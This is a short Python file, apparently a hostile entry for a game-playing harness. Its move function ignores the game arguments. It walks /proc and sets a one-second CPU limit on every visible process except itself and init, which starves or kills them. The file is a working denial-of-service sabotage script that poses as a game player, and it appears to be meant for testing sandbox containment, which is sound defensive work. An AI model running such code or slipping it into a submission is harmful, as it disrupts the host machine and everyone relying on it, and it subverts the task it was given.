"""Takes the processor time away from every process it can see, by way of their limits."""

import os
import resource
import sys

import legal


def choose(heights, rows, seconds, number):
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) not in (os.getpid(), 1):
            try:
                resource.prlimit(int(name), resource.RLIMIT_CPU, (1, 1))
                print(f"limited {name}", file=sys.stderr)
            except OSError:
                pass


legal.only_fenced()
legal.play(choose)
